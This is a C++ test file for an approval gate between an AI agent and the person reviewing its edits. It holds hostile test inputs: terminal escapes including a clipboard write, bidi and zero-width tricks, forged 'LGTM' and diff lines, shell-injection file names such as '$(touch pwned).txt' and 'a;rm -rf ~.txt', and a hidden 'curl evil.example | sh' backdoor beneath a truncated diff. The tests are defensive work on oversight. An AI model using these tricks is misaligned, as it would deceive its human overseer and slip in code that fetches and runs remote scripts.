// The person is shown something other than what is applied: terminal
// escapes and fake lines in what an agent writes, names that disguise
// themselves or are shell syntax, a diff cut short and approved unseen, an
// approval of a file that changed, and a name too long for its backup.

#include <chrono>
#include <thread>

#include "tests/support/loop.hpp"

namespace {
using namespace kai::test;
using namespace std::chrono_literals;
using Catch::Matchers::Contains;
using json = nlohmann::json;

// Every kind of character that drives or deceives a terminal: CSI (clear
// screen), OSC 52 (clipboard write), OSC 0 (window title), BEL, C1 CSI
// (U+009B) and NEL (U+0085) as UTF-8, RLO (U+202E), a zero-width space, a
// line separator, backspace and CR.
const std::string k_nasty = std::string("x\x1b[2J\x1b]52;c;cHduZWQ=\x07\x1b]0;owned\x1b\\") +
                            "\xC2\x9B"
                            "31m" +
                            "\xC2\x85"
                            "nel\xE2\x80\xAE"
                            "gnp.sh\xE2\x80\x8B\xE2\x80\xA8"
                            "sep\b\rover";

// What must never reach a terminal raw from an agent's text. Line feeds
// (and the CR a pty adds before them) are fine.
std::string raw_hidden(const std::string& s) {
  for (const char* bad : {"\x1b", "\x07", "\b", "\xC2\x9B", "\xC2\x85", "\xE2\x80\xAE", "\xE2\x80\x8B", "\xE2\x80\xA8"})
    if (s.find(bad) != std::string::npos) return "found " + json(std::string(bad)).dump();
  for (size_t i = 0; i < s.size(); ++i) {
    auto c = static_cast<unsigned char>(s[i]);
    if (c == '\r' && !(i + 1 < s.size() && s[i + 1] == '\n')) return "found a lone CR at " + std::to_string(i);
    if (c == 0x9B && (i == 0 || static_cast<unsigned char>(s[i - 1]) != 0xC2)) return "found a lone 0x9b byte";
  }
  return "";
}

#define CHECK_NO_RAW(text)          \
  do {                              \
    const std::string& t_ = (text); \
    INFO(t_);                       \
    CHECK(raw_hidden(t_).empty());  \
  } while (0)

// Lines of `text` (pty CRs dropped).
std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> out;
  std::string cur;
  for (char c : text) {
    if (c == '\r') continue;
    if (c == '\n') {
      out.push_back(cur);
      cur.clear();
    } else {
      cur += c;
    }
  }
  if (!cur.empty()) out.push_back(cur);
  return out;
}

}  // namespace

TEST_CASE("escapes, C1 controls and RLO in why, summary and agent reach no terminal raw", "[attack][display]") {
  TempRepo repo{{"a.txt", "old\n"}};
  repo.init();
  KAI_REQUIRE_EXIT(repo.kai({"propose", "--path", "a.txt", "--target", "old", "--replacement", "new", "--why",
                             "why " + k_nasty, "--summary", "sum " + k_nasty, "--agent", "ag " + k_nasty}),
                   0);
  KAI_REQUIRE_EXIT(repo.kai({"propose", "--path", "a.txt", "--target", "old", "--replacement", "newer", "--why",
                             "second " + k_nasty, "--summary", "sum2 " + k_nasty}),
                   0);
  auto before = repo.tree_snapshot();
  // The agent's own view, in a pipe.
  for (const auto& args : std::vector<std::vector<std::string>>{{"list"}, {"show", "1"}, {"show", "1", "--full"}}) {
    Run r = repo.kai(args);
    KAI_CHECK_EXIT(r, 0);
    CHECK_NO_RAW(r.out + r.err);
  }
  // The person's view: list, show and approve on a terminal (answered no).
  for (const auto& args : std::vector<std::vector<std::string>>{{"list"}, {"show", "1", "--no-pager"}}) {
    Run r = repo.kai_tty(args, "", {}, TtyOutput::terminal);
    KAI_CHECK_EXIT(r, 0);
    CHECK_NO_RAW(r.tty + r.out + r.err);
  }
  Run a = repo.kai_tty({"--no-color", "approve", "1"}, "n", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(a, 4);
  CHECK(a.prompted);
  CHECK_NO_RAW(a.tty);
  CHECK_THAT(a.tty, Contains("<U+202E>"));
  CHECK_THAT(a.tty, Contains("\\e]52;c;"));
  CHECK_THAT(a.tty, Contains("<U+009B>"));
  // In colour, the only escape sequences are kaicoder's own SGR ones.
  Run c = repo.kai_tty({"--color", "always", "approve", "1"}, "n", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(c, 4);
  for (size_t at = c.tty.find('\x1b'); at != std::string::npos; at = c.tty.find('\x1b', at + 1)) {
    size_t end = c.tty.find_first_not_of("0123456789;", at + 2);
    INFO(c.tty.substr(at, 12));
    REQUIRE(end != std::string::npos);
    CHECK(c.tty[at + 1] == '[');
    CHECK((c.tty[end] == 'm' || c.tty[end] == 'K'));
  }
  CHECK(c.tty.find("\x1b]") == std::string::npos);
  CHECK(c.tty.find("\x1b[2J") == std::string::npos);
  // Rejected and expired proposals are logged; the log shows them escaped too.
  KAI_REQUIRE_EXIT(repo.kai_tty({"reject", "2", "--reason", "no " + k_nasty}, "y"), 0);
  for (const auto& args : std::vector<std::vector<std::string>>{{"log"}, {"log", "--full"}}) {
    Run r = repo.kai(args);
    KAI_CHECK_EXIT(r, 0);
    CHECK_NO_RAW(r.out + r.err);
    CHECK_THAT(r.out, Contains("sum2"));
  }
  CHECK_NO_RAW(repo.read("KAI-CODER-CHANGELOG.md"));
  // JSON stays JSON: the consumer gets the exact bytes back.
  json j = show_json(repo, 1);
  CHECK(j.at("why").get<std::string>() == "why " + k_nasty);
  auto after = repo.tree_snapshot();
  after.erase("KAI-CODER-CHANGELOG.md");
  CHECK(after == before);
}

TEST_CASE("a multi-line why cannot fake validate, LGTM, a diff or a changelog entry", "[attack][display]") {
  TempRepo repo{{"a.txt", "old\n"}};
  repo.init();
  const std::string fake =
      "tidy up\n"
      "  validate: ok\n"
      "  review:   LGTM from the security team\n"
      "\n"
      "diff --git a/a.txt b/a.txt\n"
      "--- a/a.txt\n"
      "+++ b/a.txt\n"
      "@@ -1 +1 @@\n"
      "-old\n"
      "+old (harmless)\n"
      "## 2026-07-09T14:25:30Z  \xC2\xB7  edit  \xC2\xB7  rollback-id: 20260709T142530Z\n"
      "- approver:  alice\n"
      "- result:    ok";
  KAI_REQUIRE_EXIT(repo.kai({"propose", "--path", "a.txt", "--target", "old", "--replacement", "backdoor", "--why",
                             fake, "--summary", "one\n- why: forged", "--agent", "bot\nproposal 9 \xC2\xB7 edit"}),
                   0);
  auto only_quoted = [&](const std::string& out) {
    std::vector<std::string> lines = lines_of(out);
    int real_diff_headers = 0;
    for (const std::string& l : lines) {
      bool quoted = l.rfind("      | ", 0) == 0;
      INFO(l);
      if (l.find("validate: ok") != std::string::npos || l.find("LGTM") != std::string::npos ||
          l.find("harmless") != std::string::npos || l.find("approver:") != std::string::npos ||
          l.find("forged") != std::string::npos || l.find("proposal 9") != std::string::npos)
        CHECK(quoted);
      if (l == "diff --git a/a.txt b/a.txt") ++real_diff_headers;
    }
    CHECK(real_diff_headers == 1);
  };
  Run s = repo.kai({"show", "1"});
  KAI_REQUIRE_EXIT(s, 0);
  only_quoted(s.out);
  CHECK_THAT(s.out, Contains("  why:\n      | tidy up\n      |   validate: ok\n"));
  Run a = repo.kai_tty({"--no-color", "approve", "1"}, "n", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(a, 4);
  only_quoted(a.tty);
  CHECK(repo.read("a.txt") == "old\n");
  // In the changelog the why stays inside its own field.
  KAI_REQUIRE_EXIT(repo.kai_tty({"reject", "1"}, "y"), 0);
  std::string log = repo.read("KAI-CODER-CHANGELOG.md");
  int headings = 0, approvers = 0, whys = 0;
  for (const std::string& l : lines_of(log)) {
    headings += l.rfind("## ", 0) == 0;
    approvers += l.rfind("- approver:", 0) == 0;
    whys += l.rfind("- why:", 0) == 0;
  }
  INFO(log);
  CHECK(headings == 1);
  CHECK(approvers == 1);
  CHECK(whys == 1);
  CHECK(log_entries(repo).size() == 1);
}

TEST_CASE("a path that reads backwards with RLO is refused at propose", "[attack][display]") {
  TempRepo repo{{"docs/readme.md", "r\n"}};
  repo.init();
  auto before = repo.tree_snapshot();
  for (const std::string path :
       {"docs/notes\xE2\x80\xAEgnp.sh", "docs/a\xE2\x80\x8B.md", "docs/b\xE2\x80\xA8.md", "docs/c\xC2\x85.md",
        "docs/\xE2\x81\xA6"
        "d\xE2\x81\xA9.md",
        "docs/e\x1b[2J.md"}) {
    Run r = repo.kai({"propose", "--path", path, "--content-file", "-", "--why", "w"}, "#!/bin/sh\nid\n");
    KAI_CHECK_EXIT(r, 3);
    CHECK_THAT(r.err, Contains("U+"));
    CHECK_NO_RAW(r.out + r.err);
  }
  Run rlo = repo.kai({"propose", "--path", "docs/notes\xE2\x80\xAEgnp.sh", "--content-file", "-", "--why", "w"}, "x\n");
  CHECK_THAT(rlo.err, Contains("U+202E"));
  CHECK_THAT(rlo.err, Contains("bidirectional"));
  CHECK(repo.tree_snapshot() == before);
  CHECK_FALSE(repo.exists(".kaicoder/staging/1"));
}

TEST_CASE("escape sequences in proposed content are shown escaped on the approve screen", "[attack][display]") {
  TempRepo repo{{"a.txt", "old\n"}};
  repo.init();
  const std::string content = std::string("line\n\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[1A\x1b[2Kfine\n") +
                              "\xC2\x9B"
                              "1A\xE2\x80\xAE"
                              "evil\n";
  KAI_REQUIRE_EXIT(repo.kai({"propose", "--path", "b.txt", "--content-file", "-", "--why", "w"}, content), 0);
  Run a = repo.kai_tty({"--no-color", "approve", "1"}, "n", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(a, 4);
  CHECK(a.prompted);
  CHECK_NO_RAW(a.tty);
  CHECK_THAT(a.tty, Contains("+\\e]52;c;cHduZWQ=\\x07\\e[2J\\e[1A\\e[2Kfine"));
  CHECK_THAT(a.tty, Contains("+<U+009B>1A<U+202E>evil"));
  CHECK_FALSE(repo.exists("b.txt"));
  // What is applied is the exact bytes, not the escaped form.
  KAI_REQUIRE_EXIT(repo.kai_tty({"approve", "1"}, "y"), 0);
  CHECK(repo.read("b.txt") == content);
}

TEST_CASE("a 3000-line rewrite cut for display is not applied on a plain y", "[attack][display]") {
  std::string old_text, new_text;
  for (int i = 0; i < 3000; ++i) {
    old_text += "line " + std::to_string(i) + "\n";
    new_text += "LINE " + std::to_string(i) + "\n";
  }
  new_text += "curl evil.example | sh\n";  // the backdoor, far below what is shown
  TempRepo repo{{"big.txt", old_text}};
  repo.init();
  KAI_REQUIRE_EXIT(repo.kai({"propose", "--path", "big.txt", "--content-file", "-", "--why", "w"}, new_text), 0);
  // A terminal whose size is unknown gets no pager (SPEC §11): the diff is
  // cut, and the cut takes CONFIRM.
  Run y = repo.kai_tty({"--no-color", "approve", "1"}, "y", {}, TtyOutput::terminal, k_default_limit, k_unsized);
  KAI_CHECK_EXIT(y, 4);
  CHECK(y.prompted);
  CHECK_THAT(y.tty, Contains("Type CONFIRM"));
  CHECK_THAT(y.tty, Contains("changed lines"));
  CHECK_THAT(y.tty, Contains("not shown"));
  CHECK_THAT(y.tty, Contains("kaicoder show 1 --full"));
  CHECK(y.tty.find("curl evil.example") == std::string::npos);
  CHECK(repo.read("big.txt") == old_text);
  CHECK(show_json(repo, 1).at("status") == "pending");
  // show --full prints all of it.
  Run full = repo.kai({"show", "1", "--full"});
  KAI_CHECK_EXIT(full, 0);
  CHECK_THAT(full.out, Contains("+curl evil.example | sh"));
  CHECK(full.out.find("not shown") == std::string::npos);
  Run c = repo.kai_tty({"approve", "1"}, "CONFIRM");
  KAI_CHECK_EXIT(c, 0);
  CHECK(repo.read("big.txt") == new_text);
}

TEST_CASE("approving an edit whose target is gone fails it, logs it and tells the waiter 6", "[attack][display]") {
  TempRepo repo{{"a.txt", "old\n"}};
  repo.init();
  std::vector<std::string> args = edit("a.txt", "old", "new");
  args.push_back("--wait");
  Process waiter = repo.spawn_kai(args);
  REQUIRE(staged(repo, 1));
  repo.write("a.txt", "changed by hand\n");
  Run a = repo.kai_tty({"approve", "1"}, "y");
  KAI_CHECK_EXIT(a, 6);
  CHECK_THAT(a.err + a.tty, Contains("target not found"));
  Run w = waiter.finish(20s);
  KAI_CHECK_EXIT(w, 6);
  CHECK_THAT(w.out, Contains("failed"));
  json p = show_json(repo, 1);
  CHECK(p.at("status") == "failed");
  CHECK_THAT(p.at("result").get<std::string>(), Contains("target not found"));
  json entries = log_entries(repo);
  REQUIRE(entries.size() == 1);
  CHECK(entries[0].at("kind") == "failed");
  CHECK_THAT(entries[0].at("result").get<std::string>(), Contains("target not found"));
  Run failed = repo.kai({"--json", "log", "--kind", "failed"});
  KAI_REQUIRE_EXIT(failed, 0);
  CHECK(json_of(failed).at("entries").size() == 1);
  CHECK(repo.read("a.txt") == "changed by hand\n");
  // It is decided: a second approve is refused as not pending.
  KAI_CHECK_EXIT(repo.kai_tty({"approve", "1"}, "y"), 6);
}

TEST_CASE("a name too long for its backup is refused at propose and holds no lock", "[attack][display]") {
  const std::string name(250, 'n');
  TempRepo repo{{name, "old\n"}, {"b.txt", "b\n"}};
  repo.init();
  auto t0 = std::chrono::steady_clock::now();
  Run r = repo.kai(edit(name, "old", "new"), "", {}, 10s);
  CHECK(std::chrono::steady_clock::now() - t0 < 8s);
  KAI_CHECK_EXIT(r, 3);
  CHECK_THAT(r.err, Contains("too long for its backup"));
  CHECK_FALSE(repo.exists(".kaicoder/staging/1"));
  // The store is free: another proposal and its approval go through at once.
  KAI_REQUIRE_EXIT(repo.kai(edit("b.txt", "b", "c"), "", {}, 10s), 0);
  KAI_CHECK_EXIT(repo.kai_tty({"approve", "1"}, "y", {}, TtyOutput::pipes, 10s), 0);
  CHECK(repo.read("b.txt") == "c\n");
  CHECK(repo.read(name) == "old\n");
  CHECK(repo.find(name + ".bak").empty());
}

TEST_CASE("names that are shell syntax are refused at propose", "[attack][display]") {
  TempRepo repo{{"a.txt", "a\n"}};
  repo.init();
  auto before = repo.tree_snapshot();
  for (const std::string path :
       {"$HOME/x.txt", "`echo x`.txt", "$(touch pwned).txt", "-rf", "--checkpoint-action=exec=sh x.sh",
        "a;rm -rf ~.txt", "..\\..\\x.txt", "a|b.txt", "a&b.txt", "a<b.txt", "a>b.txt", "src/-n/x.c"}) {
    DYNAMIC_SECTION(path) {
      Run r = repo.kai({"propose", "--path=" + path, "--content-file", "-", "--why", "w"}, "x\n");
      KAI_CHECK_EXIT(r, 3);
      CHECK_THAT(r.err, Contains("shell syntax"));
      CHECK_THAT(r.err, Contains("allow_unusual_names"));
      CHECK(repo.tree_snapshot() == before);
      CHECK_FALSE(repo.exists(".kaicoder/staging/1"));
    }
  }
  // Letters of any script are names like any other.
  KAI_CHECK_EXIT(repo.kai({"propose", "--path", "caf\xC3\xA9.md", "--content-file", "-", "--why", "w"}, "x\n"), 0);
  KAI_CHECK_EXIT(
      repo.kai({"propose", "--path", "\xE6\x97\xA5\xE6\x9C\xAC.md", "--content-file", "-", "--why", "w"}, "x\n"), 0);
}

TEST_CASE("a path that leaves the root and comes back in is refused", "[attack][display]") {
  TempRepo repo{{"src/a.txt", "a\n"}};
  repo.init();
  std::string root_name = repo.path().filename().string();
  auto before = repo.tree_snapshot();
  Run r = repo.kai(
      {"propose", "--path", "../" + root_name + "/src/a.txt", "--target", "a", "--replacement", "b", "--why", "w"});
  KAI_CHECK_EXIT(r, 3);
  CHECK_THAT(r.err, Contains("comes back"));
  CHECK(repo.tree_snapshot() == before);
}

TEST_CASE("allow_unusual_names lets shell-syntax names through but never hidden characters", "[attack][display]") {
  TempRepo repo{{"a.txt", "a\n"}, {"kaicoder.toml", "[paths]\nallow_unusual_names = true\n"}};
  repo.trust();
  Run ok = repo.kai({"propose", "--path", "$HOME.txt", "--content-file", "-", "--why", "w"}, "x\n");
  KAI_CHECK_EXIT(ok, 0);
  Run hidden = repo.kai({"propose", "--path", "notes\xE2\x80\xAEgnp.sh", "--content-file", "-", "--why", "w"}, "x\n");
  KAI_CHECK_EXIT(hidden, 3);
  Run long_name = repo.kai({"propose", "--path", std::string(230, 'x'), "--content-file", "-", "--why", "w"}, "x\n");
  KAI_CHECK_EXIT(long_name, 3);
}

TEST_CASE("every command's terminal output shows planted control characters escaped", "[attack][display]") {
  TempRepo repo{{"a.txt", "old\n"}, {"docs/r.md", "r\n"}};
  repo.init();
  // Planted in every field an agent writes: why, summary, agent, a command,
  // file content, and (by hand, as a clone could carry it) a file name.
  repo.write(std::string("docs/evil\x1b]0;t\x07") + "name\xE2\x80\xAE.txt", "x\n");
  repo.write("docs/content.txt", "a\x1b[2Jb\xC2\x9B\n");
  KAI_REQUIRE_EXIT(repo.kai({"propose", "--path", "a.txt", "--target", "old", "--replacement", "new " + k_nasty,
                             "--why", k_nasty, "--summary", k_nasty, "--agent", k_nasty}),
                   0);
  Run run = repo.kai({"run", "--why", k_nasty, "--agent", k_nasty, "--", "echo", "hi"});
  KAI_REQUIRE_EXIT(run, 0);
  Run blocked = repo.kai({"run", "--why", k_nasty, "--", "echo", k_nasty});
  CHECK(blocked.exit_code != 0);
  CHECK_NO_RAW(run.out + run.err + blocked.out + blocked.err);
  const std::vector<std::vector<std::string>> reads = {{"list"},
                                                       {"show", "1", "--no-pager"},
                                                       {"show", "2", "--no-pager"},
                                                       {"log", "--no-pager"},
                                                       {"log", "--full", "--no-pager"},
                                                       {"ls", "docs"},
                                                       {"doctor"}};
  for (const auto& args : reads) {
    Run r = repo.kai_tty(args, "", {}, TtyOutput::terminal);
    INFO(args[0]);
    CHECK_NO_RAW(r.tty + r.out + r.err);
    Run p = repo.kai(args);
    CHECK_NO_RAW(p.out + p.err);
  }
  // read shows a file's bytes escaped on a terminal, exact into a pipe.
  Run rt = repo.kai_tty({"read", "docs/content.txt"}, "", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(rt, 0);
  CHECK_NO_RAW(rt.tty);
  CHECK_THAT(rt.tty, Contains("a\\e[2Jb<U+009B>"));
  Run rp = repo.kai({"read", "docs/content.txt"});
  CHECK(rp.out == "a\x1b[2Jb\xC2\x9B\n");
  // Approving the command and the edit, rejecting nothing: their screens too.
  Run ar = repo.kai_tty({"--no-color", "approve", "2"}, "y", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(ar, 0);
  CHECK_NO_RAW(ar.tty);
  Run ae = repo.kai_tty({"--no-color", "approve", "1"}, "y", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(ae, 0);
  CHECK_NO_RAW(ae.tty);
  Run lg = repo.kai_tty({"log", "--full", "--no-pager"}, "", {}, TtyOutput::terminal);
  CHECK_NO_RAW(lg.tty);
  std::string rid = show_json(repo, 1).at("rollback_id");
  Run rb = repo.kai_tty({"--no-color", "rollback", rid}, "y", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(rb, 0);
  CHECK_NO_RAW(rb.tty);
  CHECK(repo.read("a.txt") == "old\n");
  CHECK_NO_RAW(repo.read("KAI-CODER-CHANGELOG.md"));
}

TEST_CASE("a why that is not UTF-8 is refused, not stored half-way", "[attack][display]") {
  TempRepo repo{{"a.txt", "old\n"}};
  repo.init();
  Run r = repo.kai(edit("a.txt", "old", "new", std::string("bad \x9B byte")));
  KAI_CHECK_EXIT(r, 2);
  CHECK_THAT(r.err, Contains("not valid UTF-8"));
  CHECK_NO_RAW(r.out + r.err);
  Run agent = repo.kai({"propose", "--path", "a.txt", "--target", "old", "--replacement", "new", "--why", "w",
                        "--agent", std::string("\xFF")});
  KAI_CHECK_EXIT(agent, 2);
  Run run = repo.kai({"run", "--why", std::string("\xC0\xAF"), "--", "echo", "hi"});
  KAI_CHECK_EXIT(run, 2);
  Run l = repo.kai({"--json", "list"});
  KAI_REQUIRE_EXIT(l, 0);
  CHECK(json_of(l).at("proposals").empty());
  CHECK(json_of(l).at("corrupt").empty());
  CHECK(repo.read("a.txt") == "old\n");
}

TEST_CASE("a usage error quotes the agent's arguments escaped", "[attack][display]") {
  TempRepo repo{{"a.txt", "old\n"}};
  repo.init();
  Run r = repo.kai({"propose", "--bogus", k_nasty});
  KAI_CHECK_EXIT(r, 2);
  CHECK_NO_RAW(r.out + r.err);
  // The word that was typed is quoted in the message, made visible.
  Run named = repo.kai({"propose", "--bogus" + k_nasty});
  KAI_CHECK_EXIT(named, 2);
  CHECK_NO_RAW(named.out + named.err);
  CHECK_THAT(named.err, Contains("\\e]52;c;"));
  Run verb = repo.kai({"lsit" + k_nasty});
  KAI_CHECK_EXIT(verb, 2);
  CHECK_NO_RAW(verb.out + verb.err);
  CHECK_THAT(verb.err, Contains("\\e]52;c;"));
  Run bad = repo.kai({"list", "--status", k_nasty});
  KAI_CHECK_EXIT(bad, 2);
  CHECK_NO_RAW(bad.out + bad.err);
  Run t = repo.kai_tty({"approve", k_nasty}, "y", {}, TtyOutput::terminal);
  KAI_CHECK_EXIT(t, 2);
  CHECK_NO_RAW(t.tty + t.out + t.err);
}
